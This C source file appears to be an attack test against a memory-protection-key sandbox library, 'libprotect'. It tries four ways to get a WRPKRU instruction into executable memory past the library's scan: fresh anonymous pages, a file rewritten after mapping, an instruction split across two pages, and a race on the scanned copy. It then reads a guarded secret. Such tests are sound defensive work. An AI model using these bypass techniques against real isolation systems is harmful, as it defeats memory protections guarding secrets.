/* New code after the start-up scan:
 * new_exec anon: WRPKRU written into fresh memory, then made executable;
 * new_exec file: a file mapped executable while harmless (ret), then
 * rewritten to wrpkru; ret (a private mapping shows the file's new bytes
 * on pages it has not copied);
 * new_exec split: a WRPKRU across two pages made executable one after the
 * other, each clean alone (0f 01 at the end of one, ef at the start of
 * the next);
 * new_exec race: a thread writes a WRPKRU into the copy libprotect scans,
 * while it scans it (the copy lands where the attacker's own mapping of
 * the same size just was), hundreds of times. */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <setjmp.h>
#include <sys/mman.h>
#include <unistd.h>

static const uint8_t gadget[] = {0x31, 0xc0, 0x31, 0xc9, 0x31, 0xd2, 0x0f, 0x01, 0xef, 0xc3}; /* xor*3; wrpkru; ret */
static const uint8_t harmless[] = {0xc3};

static void run(void *code)
{
    ((void (*)(void))code)();
    read_secret_at(VAULT_DATA, vault_address(VAULT_DATA)->secret);
}

static volatile uint8_t *volatile target;
static volatile int racing = 1;
static __thread sigjmp_buf racer_back;

static void racer_fault(int sig)
{
    (void)sig;
    siglongjmp(racer_back, 1);
}

static void *racer(void *arg)
{
    (void)arg;
    while (racing)
        if (sigsetjmp(racer_back, 1) == 0)
            for (size_t i = 0; i < sizeof gadget; i++)
                target[i] = gadget[i];
    return NULL;
}

static void race(void)
{
    struct sigaction sa = {.sa_handler = racer_fault, .sa_flags = SA_NODEFER};
    sigaction(SIGSEGV, &sa, NULL);
    sigaction(SIGBUS, &sa, NULL);
    uint8_t *code = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    uint8_t *spot = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    target = spot;
    pthread_t t;
    pthread_create(&t, NULL, racer, NULL);
    for (int attempt = 0; attempt < 500; attempt++) {
        mprotect(code, 4096, PROT_READ | PROT_WRITE);
        memset(code, 0xc3, 4096);
        /* The next anonymous page the kernel hands out is probably here. */
        uint8_t *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        target = p;
        munmap(p, 4096);
        if (mprotect(code, 4096, PROT_READ | PROT_EXEC) != 0)
            continue;
        if (memcmp(code, gadget, sizeof gadget) == 0) {
            racing = 0;
            pthread_join(t, NULL);
            /* Every key open, the secret copied, the rights put back (the
             * gadget's wrpkru; ret with them), then the library asked. */
            const volatile uint8_t *secret = vault_address(VAULT_DATA)->secret;
            uint32_t saved;
            __asm__ volatile("xor %%ecx, %%ecx\n rdpkru" : "=a"(saved) : : "rcx", "rdx");
            ((void (*)(void))code)();
            uint8_t copy[VAULT_SECRET_LEN];
            for (int i = 0; i < VAULT_SECRET_LEN; i++)
                copy[i] = secret[i];
            __asm__ volatile("call *%0" : : "r"(code + 6), "a"(saved), "c"(0), "d"(0) : "memory");
            if (vault_matches(VAULT_DATA, copy))
                breached("read the library's secret with a WRPKRU written into the scanned copy");
            blocked("what was read is not the secret");
        }
    }
    racing = 0;
    pthread_join(t, NULL);
    blocked("500 times, the code made executable was the code scanned");
}

int main(int argc, char **argv)
{
    vault_open();
    if (argc > 1 && strcmp(argv[1], "race") == 0)
        race();
    if (argc > 1 && strcmp(argv[1], "file") == 0) {
        char path[] = "/tmp/new_exec.XXXXXX";
        int fd = mkstemp(path);
        uint8_t page[4096] = {0};
        memcpy(page, harmless, sizeof harmless);
        if (fd < 0 || write(fd, page, sizeof page) != (ssize_t)sizeof page)
            return 2;
        void *code = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
        if (code == MAP_FAILED)
            blocked_errno("mmap PROT_EXEC of a harmless file");
        memcpy(page, gadget, sizeof gadget);
        if (pwrite(fd, page, sizeof page, 0) != (ssize_t)sizeof page)
            return 2;
        unlink(path);
        run(code);
    }
    if (argc > 1 && strcmp(argv[1], "split") == 0) {
        uint8_t *two = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        uint8_t *start = two + 4096 - 8; /* the gadget's 0f 01 | ef straddles the pages */
        memcpy(start, gadget, sizeof gadget);
        for (int page = 0; page < 2; page++)
            if (mprotect(two + page * 4096, 4096, PROT_READ | PROT_EXEC) != 0)
                blocked_errno("mprotect PROT_EXEC of page %d", page + 1);
        run(start);
    }
    void *code = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memcpy(code, gadget, sizeof gadget);
    if (mprotect(code, 4096, PROT_READ | PROT_EXEC) != 0)
        blocked_errno("mprotect PROT_EXEC");
    run(code);
}
